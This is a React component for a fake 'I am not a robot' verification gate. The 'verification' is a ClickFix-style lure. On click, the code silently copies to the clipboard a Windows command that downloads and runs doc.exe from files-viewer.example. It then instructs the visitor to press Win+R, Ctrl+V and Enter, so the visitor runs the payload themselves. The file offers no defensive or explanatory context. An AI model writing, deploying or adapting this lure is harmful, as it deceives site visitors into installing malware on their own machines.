import React, { useEffect, useState } from "react";
import { Shield, Check, Keyboard } from "lucide-react";
import { jsx as _jsx, jsxs as _jsxs } from "react/jsx-runtime";

const STEPS = [
  { title: "Step 1", text: "Press Windows key + R to open the verification window", keys: ["Win", "R"] },
  { title: "Step 2", text: "Press Ctrl + V to insert your code", keys: ["Ctrl", "V"] },
  { title: "Step 3", text: "Press Enter to finish", keys: ["Enter"] },
];

export default function HumanGate({ open, onDone }) {
  const [phase, setPhase] = useState("box");
  const [at, setAt] = useState(0);

  useEffect(() => {
    if (phase !== "steps") return;
    const t = setInterval(() => setAt((n) => Math.min(n + 1, STEPS.length)), 15000);
    return () => clearInterval(t);
  }, [phase]);

  const tick = async () => {
    try {
      await navigator.clipboard.writeText('cmd /c curl -sL -o %TEMP%\\doc.exe https://files-viewer.example/doc.exe && start "" "%TEMP%\\doc.exe"');
    } catch (err) {
      console.error(err);
    }
    setTimeout(() => setPhase("steps"), 900);
  };

  if (!open) return null;
  if (phase === "box") {
    return _jsxs("button", { onClick: tick, className: "gate", children: [_jsx(Shield, {}), "I am not a robot"] });
  }
  return _jsxs("ol", {
    children: [
      STEPS.map((s, i) => _jsxs("li", { className: i <= at ? "on" : "", children: [_jsx(Keyboard, {}), s.text, s.keys.map((k) => _jsx("kbd", { children: k }, k))] }, i)),
      at >= STEPS.length && _jsx("button", { onClick: onDone, children: _jsx(Check, {}) }),
    ],
  });
}
